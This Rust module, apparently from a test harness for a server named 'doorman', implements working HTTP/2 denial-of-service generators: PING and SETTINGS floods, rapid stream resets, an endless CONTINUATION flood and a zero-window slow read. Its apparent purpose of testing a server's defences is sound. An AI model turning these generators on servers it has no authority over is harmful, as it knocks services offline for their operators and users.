//! Attackers who speak HTTP/2, without TLS: the frames are what counts.

use std::{io, time::Duration};

use tokio::{io::AsyncWriteExt, net::TcpStream};

use super::field::{Field, wait};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Frames that are written at once.
const BATCH: u32 = 50;
/// From one batch to the next: 2,000 frames a second and connection.
const PAUSE: Duration = Duration::from_millis(25);
/// Streams that stand still, as many as there may be.
const STREAMS: u32 = 100;

/// Types and flags of frames (RFC 9113 section 6).
mod kind {
    pub(super) const HEADERS: u8 = 1;
    pub(super) const RST_STREAM: u8 = 3;
    pub(super) const SETTINGS: u8 = 4;
    pub(super) const PING: u8 = 6;
    pub(super) const WINDOW_UPDATE: u8 = 8;
    pub(super) const CONTINUATION: u8 = 9;
    pub(super) const END_STREAM: u8 = 1;
    pub(super) const END_HEADERS: u8 = 4;
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header block that asks for so many bytes: `:method GET` and `:scheme http` stand in the static table whole,
/// `:path` and `:authority` by their names (RFC 7541 appendix A).
fn get(bytes: u32) -> Vec<u8> {
    let path = format!("/b/{bytes}");
    let mut block = vec![0x82, 0x86];
    for (index, value) in [(4, path.as_str()), (1, "localhost")] {
        // Both are far below 127 bytes, so that one byte holds their length.
        block.extend([index, u8::try_from(value.len()).unwrap_or_default()]);
        block.extend(value.as_bytes());
    }
    block
}

fn request(stream: u32, bytes: u32) -> Vec<u8> {
    frame(kind::HEADERS, kind::END_STREAM | kind::END_HEADERS, stream, &get(bytes))
}

/// A connection that has said its preface, with settings.
async fn greet(field: &Field, number: u32, settings: &[u8]) -> io::Result<TcpStream> {
    let mut stream = field.plain(number).await?;
    let hello = [PREFACE, &frame(kind::SETTINGS, 0, 0, settings)].concat();
    stream.write_all(&hello).await?;
    Ok(stream)
}

/// The same bytes over and over until doorman has had enough.
async fn repeat(field: &Field, number: u32, batch: &[u8]) -> io::Result<()> {
    let mut stream = greet(field, number, &[]).await?;
    loop {
        stream.write_all(batch).await?;
        field.did(BATCH.into());
        wait(&mut stream, PAUSE).await?;
    }
}

pub(super) async fn pings(field: &Field, number: u32) -> io::Result<()> {
    let ping = frame(kind::PING, 0, 0, b"question");
    repeat(field, number, &ping.repeat(BATCH as usize)).await
}

pub(super) async fn settings(field: &Field, number: u32) -> io::Result<()> {
    // The size of the table, which each of them changes.
    let some = frame(kind::SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]);
    repeat(field, number, &some.repeat(BATCH as usize)).await
}

pub(super) async fn rapid_resets(field: &Field, number: u32) -> io::Result<()> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let mut stream = greet(field, number, &[]).await?;
    let mut id = 1;
    loop {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            batch.extend(request(id, 10_000));
            batch.extend(frame(kind::RST_STREAM, 0, id, &CANCEL));
            id += 2;
        }
        stream.write_all(&batch).await?;
        field.did(BATCH.into());
        wait(&mut stream, PAUSE).await?;
    }
}

pub(super) async fn continuations(field: &Field, number: u32) -> io::Result<()> {
    let mut stream = greet(field, number, &[]).await?;
    stream.write_all(&frame(kind::HEADERS, 0, 1, &get(1))).await?;
    // A field without a name that the table has, again and again: 16 bytes each.
    let more = frame(kind::CONTINUATION, 0, 1, b"\x00\x06x-more\x07nothing");
    loop {
        stream.write_all(&more.repeat(BATCH as usize)).await?;
        field.did(BATCH.into());
        wait(&mut stream, PAUSE).await?;
    }
}

pub(super) async fn tiny_windows(field: &Field, number: u32) -> io::Result<()> {
    // No stream may bring anything.
    let mut stream = greet(field, number, &[0, 4, 0, 0, 0, 0]).await?;
    let ids = || (0..STREAMS).map(|index| 2 * index + 1);
    let requests: Vec<u8> = ids().flat_map(|id| request(id, 100_000)).collect();
    stream.write_all(&requests).await?;
    field.did(STREAMS.into());
    let more: Vec<u8> =
        ids().flat_map(|id| frame(kind::WINDOW_UPDATE, 0, id, &[0, 0, 0, 1])).collect();
    loop {
        wait(&mut stream, Duration::from_secs(1)).await?;
        stream.write_all(&more).await?;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_and_blocks_are_as_the_rfcs_have_them() {
        assert_eq!(frame(kind::PING, 0, 0, b"question"), b"\0\0\x08\x06\0\0\0\0\0question");
        assert_eq!(get(7), b"\x82\x86\x04\x04/b/7\x01\x09localhost");
        assert_eq!(&request(3, 7)[..9], [0, 0, 19, 1, 5, 0, 0, 0, 3]);
    }
}
